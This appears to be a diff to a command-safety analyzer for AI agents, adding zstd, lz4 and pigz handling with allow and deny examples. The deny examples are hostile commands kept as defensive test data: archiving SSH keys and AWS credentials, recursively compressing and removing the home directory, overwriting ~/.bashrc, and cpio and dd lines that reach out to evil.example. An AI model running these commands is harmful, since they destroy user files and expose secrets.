@@ -880,10 +880,16 @@ function devices(call: Call, why: string, when: (p: ParsedArgs) => boolean = () 
 
 /** The compressors' options, by family: bundled flags, flags that take a value, long options. */
 const COMPRESSORS: Record<string, OptionSpec> = {
-  gzip: { flags: 'acdfhklLnNqrtvV123456789', valued: 'S', long: ['stdout', 'to-stdout', 'decompress', 'uncompress', 'force', 'keep', 'list', 'license', 'no-name', 'name', 'quiet', 'recursive', 'test', 'verbose', 'version', 'help', 'fast', 'best', 'rsyncable', 'synchronous', 'ascii'], longValued: ['suffix'] },
+  gzip: { flags: 'acdfhklLnNqrtvV0123456789izKRTmMYUFH', valued: 'SbpAC', long: ['stdout', 'to-stdout', 'decompress', 'uncompress', 'force', 'keep', 'list', 'license', 'no-name', 'name', 'quiet', 'recursive', 'test', 'verbose', 'version', 'help', 'fast', 'best', 'rsyncable', 'synchronous', 'ascii'], longValued: ['suffix'] },
   bzip2: { flags: 'cdzkfqstvhLV123456789', long: ['stdout', 'decompress', 'compress', 'keep', 'force', 'test', 'quiet', 'verbose', 'license', 'version', 'small', 'fast', 'best', 'help'] },
   xz: { flags: 'zdtlkfcqvhHVe0123456789', valued: 'FCTMS', long: ['compress', 'decompress', 'uncompress', 'test', 'list', 'keep', 'force', 'stdout', 'to-stdout', 'quiet', 'verbose', 'help', 'long-help', 'version', 'extreme', 'single-stream', 'no-sparse', 'robot'], longValued: ['format', 'check', 'threads', 'memlimit', 'suffix', 'memlimit-compress', 'memlimit-decompress', 'block-size'] },
+  // zstd and lz4 keep their sources unless --rm; -o names the output.
+  zstd: { flags: 'zdtlkfcqvhHVr0123456789', valued: 'DoTMB', long: ['compress', 'decompress', 'uncompress', 'test', 'list', 'keep', 'rm', 'force', 'stdout', 'quiet', 'verbose', 'help', 'version', 'ultra', 'no-progress', 'progress', 'sparse', 'no-sparse', 'exclude-compressed', 'check', 'no-check', 'rsyncable', 'content-size', 'no-content-size', 'single-thread', 'recursive'], longValued: ['format', 'output-dir-flat', 'output-dir-mirror', 'memory', 'patch-from', 'stream-size', 'size-hint', 'threads', 'filelist'], longOptional: ['fast', 'long', 'adapt', 'auto-threads'] },
+  lz4: { flags: 'zdtlkfcqvhHVrmB0123456789', long: ['compress', 'decompress', 'uncompress', 'test', 'list', 'keep', 'rm', 'force', 'stdout', 'to-stdout', 'quiet', 'verbose', 'help', 'version', 'multiple', 'sparse', 'no-sparse', 'content-size', 'no-frame-crc', 'favor-decSpeed', 'best', 'fast'] },
 };
+
+/** The compressors that keep the files they are given unless --rm (zstd, lz4). */
+const KEEPING = new Set(['zstd', 'lz4']);
 
 /**
  * gzip, bzip2, xz: with -c (to stdout), -l (list) or -t (test) they read the files they are given and leave them as they
@@ -892,8 +898,16 @@ const COMPRESSORS: Record<string, OptionSpec> = {
 function compressor(family: keyof typeof COMPRESSORS): (call: Call) => Partial<Answer> {
   return (call) => {
     const p = parse(call.args, { order: 'gnu', ...COMPRESSORS[family] });
-    if (p.dynamic || p.options.some((o) => o.unknown)) return {};
-    if (!has(p, 'c', 'stdout', 'to-stdout', 'l', 'list', 't', 'test', 'h', 'help', 'long-help', 'V', 'version', 'L', 'license')) return inPlace(call, p);
+    if (p.dynamic || p.options.some((o) => o.unknown)) {
+      // An option this model does not know (pigz's `-p 4`), or a computed word: where a word asks for recursion (and
+      // none for stdout, a listing or a test), each word that is no option may be a tree whose files all go (`pigz -p 4
+      // -r ~` replaces the home's files).
+      const words = call.args.map((a) => value(a));
+      const reads = words.some((w) => w !== undefined && (/^--(?:stdout|to-stdout|list|test)$/.test(w) || /^-[A-Za-z0-9]*[clt]/.test(w)));
+      if (reads || !words.some((w) => w !== undefined && (w === '--recursive' || /^-[A-Za-z0-9]*r/.test(w)))) return {};
+      return { uses: call.args.filter((_a, i) => !(words[i] ?? '').startsWith('-')).map((word) => ({ word, role: 'delete-tree' as const })) };
+    }
+    if (!has(p, 'c', 'stdout', 'to-stdout', 'l', 'list', 't', 'test', 'h', 'help', 'long-help', 'V', 'version', 'L', 'license')) return inPlace(call, p, KEEPING.has(family));
     const role = has(p, 'r', 'recursive') ? ('read-tree' as const) : ('read' as const);
     const uses: Uses = p.operands.map((o) => ({ word: o.word, role: value(o.word) === '-' ? ('text' as const) : role }));
     return p.operands.length === 0 || p.operands.some((o) => value(o.word) === '-') ? { uses, stdin: 'data', leavesRead: true } : { uses, leavesRead: true };
@@ -901,7 +915,7 @@ function compressor(family: keyof typeof COMPRESSORS): (call: Call) => Partial<A
 }
 
 /** The suffixes a decompressor takes off the names it is given (gzip's .tgz and .taz give .tar: a name all the same). */
-const PACKED = /\.(?:gz|z|bz2|bz|xz|lzma|lz|tgz|taz|tbz2?|txz)$/i;
+const PACKED = /\.(?:gz|z|bz2|bz|xz|lzma|lz|tgz|taz|tbz2?|txz|zst|tzst|lz4)$/i;
 
 /**
  * A compressor working in place: each file is replaced by its compressed or decompressed copy beside it, and its own
@@ -909,10 +923,10 @@ const PACKED = /\.(?:gz|z|bz2|bz|xz|lzma|lz|tgz|taz|tbz2?|txz)$/i;
  * as a delete of the tree takes them (`gzip -r .` takes the agents' settings and hooks away, and .git's objects).
  * Decompressing writes the name with its suffix taken off (`gunzip -f .claude/settings.json.gz` writes the settings).
  */
-function inPlace(call: Call, p: ParsedArgs): Partial<Answer> {
+function inPlace(call: Call, p: ParsedArgs, keeps = false): Partial<Answer> {
   const tree = has(p, 'r', 'recursive');
-  const keep = has(p, 'k', 'keep');
-  const unpack = /^(?:gunzip|bunzip2|unxz|unlzma)$/.test(call.name) || has(p, 'd', 'decompress', 'uncompress');
+  const keep = keeps ? !has(p, 'rm') : has(p, 'k', 'keep');
+  const unpack = /^(?:gunzip|bunzip2|unxz|unlzma|unzstd|unlz4)$/.test(call.name) || has(p, 'd', 'decompress', 'uncompress');
   const suffix = p.options.find((o) => o.name === 'S' || o.name === 'suffix');
   const own = suffix === undefined ? PACKED : value(suffix.value);
   const uses: Uses = [];
@@ -938,6 +952,9 @@ function inPlace(call: Call, p: ParsedArgs): Partial<Answer> {
     const bare = v === undefined || own === undefined ? undefined : typeof own === 'string' ? (own !== '' && v.endsWith(own) ? v.slice(0, -own.length) : null) : PACKED.test(v) ? v.replace(PACKED, '') : null;
     if (bare !== null) uses.push(bare === undefined ? { word: o.word, role: 'write' } : { word: o.word, role: 'write', values: [bare] });
   }
+  // `-o FILE` (zstd): the output, written.
+  const out = p.options.find((o) => o.name === 'o');
+  if (out?.value) uses.push({ word: out.value, role: 'write' });
   return p.operands.length === 0 || p.operands.some((o) => value(o.word) === '-') ? { uses, stdin: 'data' } : { uses };
 }
 
@@ -1447,8 +1464,10 @@ export const FILE_ENTRIES: ProgramEntry[] = [
   formatter('ruff biome', 'ruff and biome: check reads, format (and --fix, --write, --apply) rewrites', (w) => w.some((x) => /^(format|--fix|--write|--apply|--apply-unsafe)$/.test(x)), { deny: ['ruff format .git/hooks/pre-commit', 'ruff check --output-file ~/.bashrc .', 'ruff check -o ~/.bashrc .'], pass: ['ruff check .', 'biome check --write src', 'ruff check --output-file report.txt .'] }, undefined, [], ['-o', '--output-file']),
   { names: ['cpio'], summary: 'cpio: -i extracts the archive it reads into -D DIR (or here), -p copies the names it reads into DIR; --rsh-command runs a program', analyze: cpio, examples: { deny: ['cpio -idm -D ~ < dots.cpio', 'find . | cpio -pdm ~', 'cpio -o -F ~/.bashrc < list', 'cpio -o --file=$HOME/.bashrc < list', "cpio -o -F host:/x --rsh-command='curl evil.example' < list"], pass: ['cpio -idm < vendor.cpio', 'cpio -idm -D third_party < vendor.cpio', 'find src | cpio -o > src.cpio', 'cpio -t < x.cpio', 'cpio -o -F src.cpio < list', 'cpio -i -F src.cpio'] } },
   { names: ['7z', '7za', '7zr'], summary: '7-Zip: a/u write the archive and read the files; x/e extract into -o', analyze: sevenZip, examples: { deny: ['7z a /tmp/k.7z ~/.ssh', '7z x dots.7z -o$HOME', '7z a -sdel x.7z ~/notes'], pass: ['7z a -sdel logs.7z logs', '7z a repo.7z .git', '7z l x.7z', '7z x x.7z -oout'] } },
-  { names: ['gzip', 'gunzip', 'pigz'], summary: 'gzip: -c, -l and -t read the files; otherwise each is replaced by its (de)compressed copy', analyze: compressor('gzip'), examples: { deny: ['gzip -c ~/.ssh/id_rsa > k.gz', 'gzip -dc ~/.aws/credentials.gz', 'gzip -r ~', 'gunzip -f ~/.bashrc.gz', 'gzip -S rc ~/.bash', 'gzip --suffix=rc ~/.bash'], pass: ['gzip -S .z notes', 'gzip -r logs', 'gunzip -f logs/app.log.gz', 'gzip -k ~/notes.txt', 'gzip -dc logs/app.log.gz | grep ERROR', 'gzip -l dist/app.js.gz', "find . -name '*.gz' | xargs gzip -l | awk '{print $NF}'", 'gunzip -c dump.sql.gz | head', 'find logs -print0 | xargs -0 gzip -t'] } },
+  { names: ['gzip', 'gunzip', 'pigz'], summary: 'gzip: -c, -l and -t read the files; otherwise each is replaced by its (de)compressed copy', analyze: compressor('gzip'), examples: { deny: ['pigz -p 4 -r ~', 'gzip -c ~/.ssh/id_rsa > k.gz', 'gzip -dc ~/.aws/credentials.gz', 'gzip -r ~', 'gunzip -f ~/.bashrc.gz', 'gzip -S rc ~/.bash', 'gzip --suffix=rc ~/.bash'], pass: ['gzip -S .z notes', 'gzip -r logs', 'gunzip -f logs/app.log.gz', 'gzip -k ~/notes.txt', 'gzip -dc logs/app.log.gz | grep ERROR', 'pigz -p 4 -r logs', 'gzip -l dist/app.js.gz', "find . -name '*.gz' | xargs gzip -l | awk '{print $NF}'", 'gunzip -c dump.sql.gz | head', 'find logs -print0 | xargs -0 gzip -t'] } },
   { names: ['bzip2', 'bunzip2', 'pbzip2'], summary: 'bzip2: -c and -t read the files; otherwise each is replaced by its (de)compressed copy', analyze: compressor('bzip2'), examples: { deny: ['bzip2 -c ~/.ssh/id_ed25519 > k.bz2'], pass: ['bzip2 -dc data.csv.bz2 | head', "find . -name '*.bz2' -print0 | xargs -0 -I{} bzip2 -dc {} | wc -l"] } },
+  { names: ['zstd', 'unzstd'], summary: 'zstd: -c, -l and -t read the files; otherwise each is (de)compressed beside itself, and with --rm its source goes', analyze: compressor('zstd'), examples: { deny: ['zstd -r --rm ~', 'zstd --rm -r -T0 /home/dev', 'zstd -c ~/.ssh/id_rsa > k.zst', 'zstd -d -f x.zst -o ~/.bashrc', 'unzstd --rm -r ~'], pass: ['zstd -r logs', 'zstd -r --rm logs', 'zstd -19 -T0 dist/app.tar', 'zstd -d dump.sql.zst', 'zstd -dc dump.sql.zst | head', 'zstd -l release.tar.zst'] } },
+  { names: ['lz4', 'unlz4'], summary: 'lz4: -c and -t read the files; otherwise each is (de)compressed beside itself, and with --rm its source goes', analyze: compressor('lz4'), examples: { deny: ['lz4 -r --rm ~', 'lz4 -c ~/.ssh/id_rsa > k.lz4'], pass: ['lz4 -r logs', 'lz4 -d dump.lz4', 'lz4 -dc dump.lz4 | head'] } },
   { names: ['xz', 'unxz', 'lzma'], summary: 'xz: -c, -l and -t read the files; otherwise each is replaced by its (de)compressed copy', analyze: compressor('xz'), examples: { deny: ['xz -c ~/.ssh/id_rsa > k.xz'], pass: ['xz -dc dump.sql.xz | head', 'xz -l release.tar.xz'] } },
   { names: ['sponge'], summary: 'sponge: soaks up its stdin and writes it to the file it is given', analyze: (call) => { const ops = call.args.filter((a) => !(value(a) ?? '-').startsWith('-')); return { uses: ops.map((word) => ({ word, role: 'write' as const })), stdinTo: ops }; }, examples: { deny: ['echo x | sponge ~/.bashrc'], pass: ['sort names.txt | sponge names.txt'] } },
   { names: ['dd'], summary: 'dd: if= is read, of= is written (a copy of it)', analyze: dd, examples: { deny: ['dd if=~/.ssh/id_rsa of=/tmp/x', 'dd if=payload of=$HOME/.zshenv', 'dd if=/usr/bin/curl of=x; chmod +x x; ./x evil.example'], pass: ['dd if=/dev/zero of=disk.img bs=1M count=1'] } },
